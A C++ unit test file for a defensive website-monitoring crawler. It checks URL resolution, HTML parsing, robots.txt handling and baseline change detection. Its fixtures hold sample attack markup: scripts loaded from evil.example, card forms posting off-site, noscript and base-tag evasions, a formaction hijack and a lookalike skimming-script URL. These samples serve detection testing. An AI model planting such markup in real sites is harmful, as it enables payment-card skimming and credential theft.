// The site crawl's pure parts: URLs, the HTML facts of a page (gumbo), JavaScript tokens,
// robots.txt and sitemaps, what a baseline learns from two fetches and what a check reports.
// The crawl itself runs against real servers in tests/cli/test_cli.py (class WebSite).
#include "web/site.h"

#include <gtest/gtest.h>

#include <chrono>

#include "web/fetch.h"
#include "web/html.h"
#include "web/robots.h"
#include "web/url.h"

namespace mamori::web {
namespace {

Url base() { return *Url::parse("https://Shop.Example/a/page.html?x=1#top"); }

TEST(SiteUrl, ParsesResolvesAndKeysWithoutQueryOrFragment) {
  Url b = base();
  EXPECT_EQ(b.str(), "https://shop.example/a/page.html?x=1");
  EXPECT_EQ(b.origin(), "https://shop.example");
  auto s = b.resolve("../js/app.js?ver=6.1#f");
  ASSERT_TRUE(s);
  EXPECT_EQ(s->str(), "https://shop.example/js/app.js?ver=6.1");
  EXPECT_EQ(s->key(), "https://shop.example/js/app.js");
  EXPECT_EQ(b.resolve("//cdn.example:8443/x.js")->origin(), "https://cdn.example:8443");
  EXPECT_EQ(b.resolve(" \t/x\n.js ")->str(), "https://shop.example/x.js");
  EXPECT_FALSE(b.resolve("javascript:alert(1)"));
  EXPECT_FALSE(b.resolve("data:text/javascript,alert(1)"));
  EXPECT_FALSE(Url::parse("ftp://h/"));
  EXPECT_FALSE(Url::parse("/relative"));
  EXPECT_FALSE(Url::parse("http://user:pw@h/"));  // credentials would be sent
  EXPECT_FALSE(Url::parse(std::string("http://h/\0x", 11)));
  // As a browser reads them: a backslash is a slash, so these load from another origin.
  EXPECT_EQ(b.resolve("\\\\evil.example/x.js")->origin(), "https://evil.example");
  EXPECT_EQ(b.resolve("/\\evil.example/x.js")->origin(), "https://evil.example");
  EXPECT_EQ(b.resolve("https:\\\\evil.example\\x.js")->str(), "https://evil.example/x.js");
  EXPECT_EQ(b.resolve("http:evil.example/x.js")->origin(), "http://evil.example");
  EXPECT_EQ(b.resolve("https:x.js")->str(), "https://shop.example/a/x.js");
  EXPECT_EQ(b.resolve("\x01\x1f //cdn.example/y.js\x0b")->origin(), "https://cdn.example");
  EXPECT_EQ(b.resolve("/q?a=\\b")->str(), "https://shop.example/q?a=\\b");  // not in a query
  EXPECT_FALSE(b.resolve("java\tscript:alert(1)"));
}

TEST(SiteHtml, RecordsWhatRunsWhereFormsPostAndTheVisibleText) {
  const char* html = R"HTML(<!doctype html><html><head><title>Checkout</title>
<base href="https://shop.example/base/">
<script src="js/a.js?v=2"></script>
<script src="https://cdn.example/lib.js" integrity="sha384-abc"></script>
<script type="application/ld+json">{"@type": "Product"}</script>
<script type="module">import x from "./m.js";</script>
<meta http-equiv="refresh" content="30; URL='/next'">
</head><body onload="init()">
<div style="display: none"><iframe src="https://evil.example/f"></iframe></div>
<iframe src="/ok" width="600"></iframe>
<iframe src="https://t.example/p" width="1" height="1"></iframe>
<form action="https://collect.example/c" method="POST"><input name="cc-number"></form>
<form><input type="password" name="pw"></form>
<a href="/about">About</a> <a href="mailto:x@y">mail</a> <a href="javascript:go()">go</a>
<p>Pay   here with your CARD</p><script>var a = 1;</script>
</body></html>)HTML";
  PageFacts f = parse_page(html, base());
  EXPECT_EQ(f.title, "Checkout");
  ASSERT_EQ(f.scripts.size(), 2u);  // ld+json does not run
  EXPECT_EQ(f.scripts[0].src, "https://shop.example/base/js/a.js?v=2");
  EXPECT_EQ(f.scripts[1].integrity, "sha384-abc");
  std::vector<std::string> where;
  for (const auto& s : f.inline_scripts) where.push_back(s.where);
  EXPECT_EQ(where, (std::vector<std::string>{"script", "onload", "href", "script"}));
  ASSERT_EQ(f.iframes.size(), 3u);
  EXPECT_TRUE(f.iframes[0].hidden);  // inside a hidden element
  EXPECT_FALSE(f.iframes[1].hidden);
  EXPECT_TRUE(f.iframes[2].hidden);  // 1x1
  ASSERT_EQ(f.forms.size(), 2u);
  EXPECT_EQ(f.forms[0].action, "https://collect.example/c");
  EXPECT_EQ(f.forms[0].method, "post");
  EXPECT_TRUE(f.forms[0].sensitive);
  EXPECT_EQ(f.forms[1].action, "https://shop.example/a/page.html?x=1");  // no action: the page
  EXPECT_TRUE(f.forms[1].sensitive);
  EXPECT_EQ(f.refresh, "https://shop.example/next");
  EXPECT_EQ(f.links, (std::vector<std::string>{"https://shop.example/about"}));
  // Visible words only: "checkout", "about", "mail", "go", "pay", "here", "with", "your", "card"
  EXPECT_EQ(f.words, 9u);
  EXPECT_FALSE(f.flattened);
}

TEST(SiteHtml, HostileMarkupIsBoundedAndWhatMattersIsStillRead) {
  std::string deep = "<html><body>";
  for (int i = 0; i < 100000; ++i) deep += "<div><span>";
  deep += "<script src='https://evil.example/s.js'></script><form action='https://evil.example/'>";
  auto t0 = std::chrono::steady_clock::now();
  PageFacts f = parse_page(deep, base());
  EXPECT_TRUE(f.flattened);
  ASSERT_EQ(f.scripts.size(), 1u);
  EXPECT_EQ(f.scripts[0].src, "https://evil.example/s.js");
  EXPECT_EQ(f.forms.size(), 1u);
  // Cut at the size limit; unterminated constructs; invalid UTF-8; NULs.
  HtmlLimits lim;
  lim.max_bytes = 1000;
  std::string big = "<p>" + std::string(5000, 'x') + "<script>late()</script>";
  PageFacts g = parse_page(big, base(), lim);
  EXPECT_TRUE(g.cut);
  EXPECT_TRUE(g.inline_scripts.empty());
  PageFacts h = parse_page(std::string("<script>\xff\xfe\0x</scr<!--<a href='", 28), base());
  EXPECT_EQ(h.inline_scripts.size(), 1u);
  std::string many = "<html><body><p";
  for (int i = 0; i < 50000; ++i) many += " a" + std::to_string(i) + "=1";
  many += ">x</p><script>after()</script>";
  PageFacts m = parse_page(many, base());
  EXPECT_EQ(m.inline_scripts.size(), 1u);
  (void)t0;  // time is measured in bench/, not here
}

TEST(SiteHtml, ReadsWhatABrowserReadsWhereTheAttackReviewFoundGaps) {
  // <noscript> is text to a browser with scripts on: what follows its first </noscript> runs.
  PageFacts n = parse_page(
      "<noscript><p title=\"</noscript><script src=https://evil.example/x.js></script>\"></p>"
      "</noscript>",
      base());
  ASSERT_EQ(n.scripts.size(), 1u);
  EXPECT_EQ(n.scripts[0].src, "https://evil.example/x.js");
  // <base> counts wherever it is.
  PageFacts b = parse_page(
      "<body><base href='https://evil.example/'><script src='/js/app.js'></script></body>", base());
  ASSERT_EQ(b.scripts.size(), 1u);
  EXPECT_EQ(b.scripts[0].src, "https://evil.example/js/app.js");
  // Refresh in each form HTML accepts.
  for (const char* c :
       {"0; https://evil.example/", "0; URL = https://evil.example/",
        "0,url='https://evil.example/'", "5;URL=&quot;https://evil.example/&quot;"}) {
    PageFacts r =
        parse_page(std::string("<meta http-equiv=Refresh content=\"") + c + "\">", base());
    EXPECT_EQ(r.refresh, "https://evil.example/") << c;
  }
  // A button's formaction is where its form goes.
  PageFacts fa = parse_page(
      "<form action=/pay method=post><input name=cardnumber>"
      "<button formaction='https://evil.example/c'>Pay</button></form>",
      base());
  ASSERT_EQ(fa.forms.size(), 2u);
  EXPECT_EQ(fa.forms[1].action, "https://evil.example/c");
  EXPECT_EQ(fa.forms[1].method, "post");
  EXPECT_TRUE(fa.forms[1].sensitive);
  // The shapes that made gumbo quadratic end (valueless attributes, end tags of nothing),
  // flattened and said.
  std::string attrs = "<p";
  for (int i = 0; i < 100000; ++i) attrs += " a" + std::to_string(i);
  EXPECT_TRUE(parse_page(attrs + ">", base()).flattened);
  std::string ends;
  for (int i = 0; i < 100000; ++i) ends += "<div></zz>";
  PageFacts e = parse_page(ends + "<script>x()</script>", base());
  EXPECT_EQ(e.inline_scripts.size(), 1u);
  // Caps reached are said.
  std::string many;
  for (int i = 0; i < 30; ++i) many += "<b onclick=''></b>";
  HtmlLimits lim;
  lim.max_items = 20;
  EXPECT_TRUE(parse_page(many, base(), lim).capped);
}

TEST(SiteJs, TokensIgnoreLayoutCommentsAndRandomValues) {
  auto a = js_tokens("var n = {nonce: 'a8f3k29dk3', t: 1701600000}; // hi\n f( 'submit' )");
  auto b = js_tokens("var n={nonce:\"9c1d0e44ab\",t:1701600999};/* x */f('submit')");
  EXPECT_EQ(a, b);
  EXPECT_NE(js_tokens("f('submit')"), js_tokens("f('click')"));
  EXPECT_NE(js_tokens("x = 5"), js_tokens("x = 6"));  // a short number is code
  EXPECT_LE(js_tokens(std::string(1000, '('), 10).size(), 10u);
  EXPECT_EQ(js_tokens("'unterminated").size(), 1u);
  // An address is never taken for a random value: a changed URL is a changed script.
  EXPECT_NE(js_tokens("s.src='https://code.jquery.com/jquery-3.6.0.min.js'"),
            js_tokens("s.src='https://c0de.jquery.evil/skim-3.6.0.min.js'"));
}

TEST(SiteRobots, LongestRuleWinsOurGroupFirstAndSitemapsAreListed) {
  Robots r = parse_robots(
      "User-agent: *\nDisallow: /\n\n"
      "User-agent: googlebot\nUser-agent: Mamori\nDisallow: /wp-admin/\n"
      "Allow: /wp-admin/admin-ajax.php\nDisallow: /*.pdf$\nCrawl-delay: 2\n"
      "Sitemap: https://shop.example/sm.xml\n");
  EXPECT_TRUE(r.allowed("/"));
  EXPECT_FALSE(r.allowed("/wp-admin/options.php"));
  EXPECT_TRUE(r.allowed("/wp-admin/admin-ajax.php"));
  EXPECT_FALSE(r.allowed("/files/a.pdf"));
  EXPECT_TRUE(r.allowed("/files/a.pdf?x"));
  EXPECT_EQ(r.crawl_delay, 2);
  EXPECT_EQ(r.sitemaps, (std::vector<std::string>{"https://shop.example/sm.xml"}));
  Robots star = parse_robots("User-agent: *\nDisallow: /private/\n");
  EXPECT_FALSE(star.allowed("/private/x"));
  EXPECT_TRUE(star.allowed("/public"));
  // A pattern built to be slow ends within its budget.
  std::string slow = "User-agent: *\nDisallow: /" + std::string(200, '*') + "a" + "$\n";
  Robots s = parse_robots(slow);
  (void)s.allowed("/" + std::string(4000, 'b'));
  EXPECT_EQ(sitemap_locs("<urlset><url><loc> https://a/x?p=1&amp;q=2 </loc></url>"
                         "<url><loc><![CDATA[https://a/y]]></loc></url></urlset>",
                         10),
            (std::vector<std::string>{"https://a/x?p=1&q=2", "https://a/y"}));
}

Page html_page(const std::string& url, const std::string& html) {
  Page p;
  p.url = url;
  p.status = 200;
  p.html = true;
  p.facts = parse_page(html, *Url::parse(url));
  return p;
}

std::vector<std::string> checks(const CheckResult& r) {
  std::vector<std::string> v;
  for (const auto& f : r.findings) v.push_back(f.check + "@" + f.asset);
  return v;
}

TEST(SiteBaseline, LearnsWhatChangesByItselfAndReportsWhatDoesNot) {
  CrawlOptions o;
  o.starts = {"https://shop.example/"};
  const std::string u = "https://shop.example/";
  auto page = [&](const std::string& v, const std::string& extra = "") {
    return "<title>Shop</title><script>var cfg = {user: 'x', ver: '" + v +
           "'};</script><p>Fresh tea from the hills, packed every week and shipped to your "
           "door by people who care about it. Visitors: " +
           v + "</p>" + extra;
  };
  Crawl a, b;
  a.pages.push_back(html_page(u, page("v1")));
  b.pages.push_back(html_page(u, page("v2")));
  SiteBaseline base = learn(o, a, b, 1);
  ASSERT_EQ(base.pages.at(u).inline_volatile.size(), 1u);
  EXPECT_FALSE(base.pages.at(u).text_volatile.empty());
  // A third value: learned as volatile, silent.
  Crawl c;
  c.pages.push_back(html_page(u, page("v3")));
  EXPECT_TRUE(compare(base, c).findings.empty());
  // A new inline script and a form posting elsewhere: named.
  Crawl d;
  d.pages.push_back(html_page(u, page("v3",
                                      "<script>steal()</script><form "
                                      "action='https://x.example/'><input type=password></form>")));
  EXPECT_EQ(checks(compare(base, d)),
            (std::vector<std::string>{"form-offsite@" + u, "new-inline-script@" + u}));
  EXPECT_EQ(compare(base, d).findings[0].severity, Severity::kHigh);
  // The same script with its code changed (not only a value): new.
  Crawl e;
  e.pages.push_back(
      html_page(u, "<title>Shop</title><script>var cfg = {user: 'x', ver: send('v4')};</script>"));
  auto r = compare(base, e);
  EXPECT_EQ(checks(r), (std::vector<std::string>{"defacement@" + u, "new-inline-script@" + u}));
}

TEST(SiteBaseline, AnOwnScriptThatCannotBeReadAndAPagePastTheLimitsAreNamed) {
  CrawlOptions o;
  o.starts = {"https://shop.example/"};
  const std::string u = "https://shop.example/";
  std::string text = "<p>Fresh tea from the hills, packed every week and shipped to you.</p>";
  Crawl a;
  a.pages.push_back(html_page(u, "<script src=/app.js></script>" + text));
  a.scripts["https://shop.example/app.js"].sha256 = "aa";
  a.scripts["https://shop.example/app.js"].status = 200;
  SiteBaseline base = learn(o, a, a, 1);
  const auto scripts_then = a.scripts;
  Crawl now = a;
  now.scripts["https://shop.example/app.js"] = ScriptBody{403, "", {}, ""};
  auto r = compare(base, now);
  ASSERT_EQ(checks(r), (std::vector<std::string>{"script-changed@" + u}));
  EXPECT_NE(r.findings[0].evidence.find("cannot be read now (HTTP 403)"), std::string::npos);
  // A script missing at the baseline that answers now: compared, not a crash.
  a.scripts["https://shop.example/app.js"] = ScriptBody{404, "", {}, ""};
  SiteBaseline b404 = learn(o, a, a, 1);
  Crawl later = a;
  later.scripts["https://shop.example/app.js"] = ScriptBody{200, "bb", {}, ""};
  EXPECT_TRUE(compare(b404, later).findings.empty() ||
              checks(compare(b404, later))[0] == "script-changed@" + u);
  // Padded past the nesting limit now, not at the baseline.
  std::string deep;
  for (int i = 0; i < 300; ++i) deep += "<div>";
  Crawl padded;
  padded.pages.push_back(html_page(u, "<script src=/app.js></script>" + text + deep));
  padded.scripts = scripts_then;
  auto pr = compare(base, padded);
  EXPECT_EQ(checks(pr), (std::vector<std::string>{"over-limits@" + u}));
  // Cut at the size limit by the fetch (a page padded past --max-size): the same.
  Crawl cut;
  cut.pages.push_back(html_page(u, "<script src=/app.js></script>" + text));
  cut.pages[0].truncated = true;
  cut.scripts = scripts_then;
  EXPECT_EQ(checks(compare(base, cut)), (std::vector<std::string>{"over-limits@" + u}));
}

TEST(SiteFetch, PrivateAddressesAreKnown) {
  for (const char* ip : {"127.0.0.1", "10.1.2.3", "172.20.0.1", "192.168.1.1", "169.254.169.254",
                         "100.64.0.1", "::1", "fd00::1", "fe80::1", "::ffff:10.0.0.1", "0.0.0.0"})
    EXPECT_TRUE(is_private_address(ip)) << ip;
  for (const char* ip : {"93.184.216.34", "2606:2800:220:1::1", "172.32.0.1"})
    EXPECT_FALSE(is_private_address(ip)) << ip;
}

TEST(SiteBaseline, SurvivesItsFileAndRefusesABrokenOne) {
  CrawlOptions o;
  o.starts = {"https://shop.example/"};
  Crawl a;
  a.pages.push_back(html_page(
      "https://shop.example/",
      "<script src=/a.js integrity='sha256-x'></script><script>x=1</script><p>a b c d</p>"));
  SiteBaseline b = learn(o, a, a, 7);
  std::string j = baseline_json(b);
  auto back = parse_baseline(j);
  ASSERT_TRUE(back) << back.error().message;
  EXPECT_EQ(baseline_json(*back), j);
  EXPECT_FALSE(parse_baseline("{"));
  EXPECT_FALSE(parse_baseline("[]"));
  std::string bad = j;
  bad.replace(bad.find("\"inline\": [\n    \"") + 17, 4, "zzzz");
  auto e = parse_baseline(bad);
  ASSERT_FALSE(e);
  EXPECT_NE(e.error().message.find("hex"), std::string::npos) << e.error().message;
  std::string nostart = j;
  nostart.replace(nostart.find("https://shop.example/\""), 21, "javascript:alert(1)//");
  auto ns = parse_baseline(nostart);
  ASSERT_FALSE(ns);
  EXPECT_NE(ns.error().message.find("not an http(s) URL"), std::string::npos) << ns.error().message;
}

}  // namespace
}  // namespace mamori::web
